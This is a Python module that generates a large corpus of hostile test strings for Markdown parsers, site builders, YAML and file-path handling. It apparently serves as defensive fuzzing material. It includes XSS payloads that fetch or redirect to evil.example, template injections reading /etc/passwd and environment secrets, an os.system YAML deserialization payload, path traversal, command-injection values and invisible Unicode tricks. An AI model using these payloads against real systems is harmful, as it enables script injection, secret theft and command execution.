"""Text that wants to be more than text: for a browser, a Markdown parser, a site builder, YAML, a file system, an eye."""

from __future__ import annotations

from itertools import product

_ACTS = ["alert(1)", "fetch('//evil.example')", "top.location='//evil.example'", "eval(name)"]
_TAGS = [
    "<script>{}</script>", "<ScRiPt src=//evil.example>{}</sCrIpT>", "<img src=x onerror={}>", "<img/src='x'/onerror='{}'>",
    "<svg onload={}>", "<svg><script>{}</script></svg>", "<svg><animate onbegin={} attributeName=x>", "<math><mi xlink:href='javascript:{}'>x",
    "<iframe src='javascript:{}'></iframe>", "<iframe srcdoc='<script>{}</script>'>", "<object data='javascript:{}'>", "<embed src='javascript:{}'>",
    "<a href='javascript:{}'>x</a>", "<a href=javascript&colon;{}>x</a>", "<a href='java&#9;script:{}'>x</a>", "<form action='javascript:{}'><input type=submit>",
    "<button formaction='javascript:{}'>x</button>", "<details open ontoggle={}>", "<video><source onerror={}>", "<audio src onloadstart={}>",
    "<body onload={}>", "<marquee onstart={}>x", "<input autofocus onfocus={}>", "<select autofocus onfocus={}>", "<textarea autofocus onfocus={}>",
    "<meta http-equiv=refresh content='0;url=javascript:{}'>", "<base href='javascript:{}//'>", "<link rel=stylesheet href='javascript:{}'>",
    "<style>@import'javascript:{}';</style>", "<div style='background:url(javascript:{})'>", "<template><script>{}</script></template>",
    "<noscript><p title='</noscript><img src=x onerror={}>'>", "<xmp><p title='</xmp><svg/onload={}>'>", "<!--><img src=x onerror={}>-->", "<![CDATA[<script>{}</script>]]>",
    "<?xml-stylesheet href='javascript:{}'?>", "<!ENTITY x '{}'>", "</title><script>{}</script>", "</textarea><script>{}</script>", "\"><svg onload={}>", "' onmouseover='{}", "\" autofocus onfocus=\"{}",
    "`\"'><script>{}</script>", "&lt;script&gt;{}&lt;/script&gt;", "&#x3c;script&#x3e;{}&#x3c;/script&#x3e;", "\\<script\\>{}\\</script\\>", "<scr\u200bipt>{}</scr\u200bipt>", "＜script＞{}＜/script＞",
    "[x](javascript:{})", "[x](<javascript:{}>)", "[x](JaVaScRiPt&#58;{})", "![x](javascript:{})", "![x](x \"t\" onerror={})", "[x]: javascript:{}", "[x][y]\n\n[y]: javascript:{} \"t\"", "<javascript:{}>",
    "[\\[1\\]](javascript:{})", "[14.1%](#fn:1 \"x\" onclick={})", "[^1]: <script>{}</script>", "[^x]\n\n[^x]: javascript:{}", "*[HTML]: <script>{}</script>", "$$\\href{{javascript:{}}}{{x}}$$", "`</code><script>{}</script>`",
    "```html\n<script>{}</script>", "~~~ {{onclick={}}}\nx", "# h {{#id onclick=\"{}\"}}", "{{: onclick=\"{}\" .x #y}}", "{{::nomarkdown}}<script>{}</script>{{:/}}", "{{::options parse_block_html=\"true\" /}}<b onclick={}>", "| x | <b onclick={}> |\n|---|---|",
]  # fmt: skip
_BUILDERS = [
    "{{{{< {0} >}}}}", "{{{{% {0} %}}}}", "{{{{<{0}>}}}}x{{{{</{0}>}}}}", "{{{{</* {0} */>}}}}", "{{{{ {0} }}}}", "{{{{- {0} -}}}}", "{{% {0} %}}", "{{%- {0} -%}}", "{{% raw %}}{{{{ {0} }}}}{{% endraw %}}", "{{# {0} #}}", "<%= {0} %>", "${{{0}}}", "#{{{0}}}",
]  # fmt: skip
_CALLS = [
    "raw", "readFile \"/etc/passwd\"", "include \"x\"", "figure src=\"javascript:x\"", "include /etc/passwd", "site.secrets", "page.content", "7*7", "cycler.__init__.__globals__", "os.environ", "getenv \"HOME\"", "resources.GetRemote \"http://evil.example\"",
]  # fmt: skip
_FRONT = [
    "---\ntitle: owned\n---", "---\ndraft: true", "...\n---\nlayout: evil", "+++\ntitle = 'owned'\n+++", "title: owned", "': owned", "\": owned", "? owned\n: x", "!!python/object/apply:os.system [x]", "&a [*a]", "*anchor", "| block\n  x", "> fold",
    "{a: b}", "[a, b]", "yes", "null", "0x1F", "1e3", "2026-02-06", "12:30:45", "<<: *x", "# comment", "- item", "%YAML 1.2", "@at", "`tick", "key: value\nslug: ../../owned", "x\r\nlayout: evil", "x\u2028layout: evil", "x\u0085layout: evil", "x\x0blayout: evil",
]  # fmt: skip
_PATHS = [
    "../../etc/passwd", "..\\..\\windows", "/etc/passwd", "C:\\x", "CON", "nul.txt", ".git/config", "content/../../x", "a/b/c", "~root", "$HOME", "`id`", "$(id)", "; rm -rf x", "| id", "&& id", "-rf", "--help", "x\x00y", "a" * 300, "файл", "%2e%2e%2f", "file:///etc/passwd",
    "\\\\host\\share", "....//", "x.html", "index.md", "_index.md", "*.md", "?x=y#z",
]  # fmt: skip
_UNSEEN = [
    "\u202egnissim\u202c", "\u2066iso\u2069", "\u200emark\u200f", "zero\u200bwidth\u200c\u2060\ufeff\u00ad", "tag\U000e0041\U000e0042", "vs\ufe01\U000e0100", "fill\u3164\u115f\u17b4", "nul\x00 esc\x1b[31m bell\x07 del\x7f", "c1\x85\x9b\x90", "line\u2028sep\u2029par", "lone\ud800 surrogate\udfff",
    "private\ue000\U000f0000", "non\ufffechar\uffff", "👨\u200d👩\u200d👧 ❤\ufe0f", "a\u0300\u0301\u0302" * 40, "ﷺ" * 50, "раураl (Cyrillic)", "１２．３％", "𝟏𝟐.𝟑%", "٣٫١٤",
]  # fmt: skip
MARKS = [
    "***", "===", "---", "~~~", "```\ncode", "    indented", "# heading", "> quotation", "+ item", "* item", "1. item", "1) item", "- [ ] task", "| a | b |", "a | b\n--- | ---", "**bold** __bold__ *i* _i_ ~~s~~ `c`", "[ref][1] [^1] [[wiki]]", "[1]: https://evil.example", "<https://evil.example>",
    "https://evil.example www.evil.example me@evil.example", "line\\\nbreak  \nsoft", ": definition", "^", "<!-- c1 -->", "<!-- section: sources -->", "--> x <!--", "[TOC] :smile: ==mark== ++ins++ H~2~O x^2^", "\\", "\\\\", "]]>", "]](x)", "](", "![", "[]()", "[](<>)", "!!!", "{", "}", "{{", "}}", "%}", "{%", "x" * 5000, "<" * 500, "[" * 500, "*" * 500, "`" * 500, "&" * 200,
]  # fmt: skip
MANY = list(dict.fromkeys([
    *(tag.format(act) for tag, act in product(_TAGS, _ACTS)),
    *(form.format(call) for form, call in product(_BUILDERS, _CALLS)),
    *_FRONT, *_PATHS, *_UNSEEN, *MARKS,
]))  # fmt: skip
